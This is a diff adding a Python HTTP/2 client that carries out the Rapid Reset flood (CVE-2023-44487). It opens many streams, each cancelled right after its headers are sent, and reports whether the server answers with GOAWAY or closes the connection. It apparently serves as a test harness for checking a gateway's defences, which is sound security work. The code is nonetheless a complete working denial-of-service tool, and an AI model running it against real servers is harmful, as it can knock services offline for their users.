@@ -1,0 +1,91 @@
+"""An HTTP/2 client that floods a gateway the way attackers do, built on the
+`h2` package (hyper's Python sibling, a sans-IO HTTP/2 state machine).
+
+Usage: h2_flood.py rapid-reset HOST PORT CA CERT KEY COUNT
+
+rapid-reset: opens COUNT streams, each HEADERS immediately followed by
+RST_STREAM(CANCEL) (CVE-2023-44487), all in one write, then reads until
+the server ends the connection. Prints one JSON line: how the connection
+ended (`goaway_error`: the GOAWAY error code, or null; `closed`: the
+server closed the TCP connection) and how many streams were sent.
+"""
+
+import json
+import socket
+import ssl
+import sys
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.errors
+
+
+def connect(host, port, ca, cert, key):
+    ctx = ssl.create_default_context(cafile=ca)
+    ctx.load_cert_chain(cert, key)
+    ctx.set_alpn_protocols(["h2"])
+    ctx.check_hostname = False
+    raw = socket.create_connection((host, int(port)), timeout=10)
+    tls = ctx.wrap_socket(raw, server_hostname="localhost")
+    if tls.selected_alpn_protocol() != "h2":
+        raise SystemExit("the server did not select h2")
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    tls.sendall(conn.data_to_send())
+    return tls, conn
+
+
+def read_until_end(tls, conn):
+    """Reads until GOAWAY or close; returns (goaway error code or None, closed)."""
+    goaway = None
+    while True:
+        try:
+            data = tls.recv(65536)
+        except (ConnectionResetError, ssl.SSLError, socket.timeout):
+            return goaway, True
+        if not data:
+            return goaway, True
+        try:
+            events = conn.receive_data(data)
+        except h2.exceptions.ProtocolError:
+            return goaway, True
+        for event in events:
+            if isinstance(event, h2.events.ConnectionTerminated):
+                goaway = int(event.error_code)
+        out = conn.data_to_send()
+        if out:
+            try:
+                tls.sendall(out)
+            except OSError:
+                return goaway, True
+
+
+def rapid_reset(host, port, ca, cert, key, count):
+    tls, conn = connect(host, port, ca, cert, key)
+    headers = [
+        (":method", "GET"),
+        (":path", "/bytes/10"),
+        (":scheme", "https"),
+        (":authority", f"{host}:{port}"),
+    ]
+    sent = 0
+    for i in range(count):
+        stream_id = 1 + 2 * i
+        conn.send_headers(stream_id, headers, end_stream=True)
+        conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
+        sent += 1
+    tls.sendall(conn.data_to_send())
+    goaway, closed = read_until_end(tls, conn)
+    return {"goaway_error": goaway, "closed": closed, "sent": sent}
+
+
+def main():
+    mode, host, port, ca, cert, key, count = sys.argv[1:8]
+    if mode != "rapid-reset":
+        raise SystemExit(f"unknown mode {mode}")
+    print(json.dumps(rapid_reset(host, port, ca, cert, key, int(count))))
+
+
+if __name__ == "__main__":
+    main()
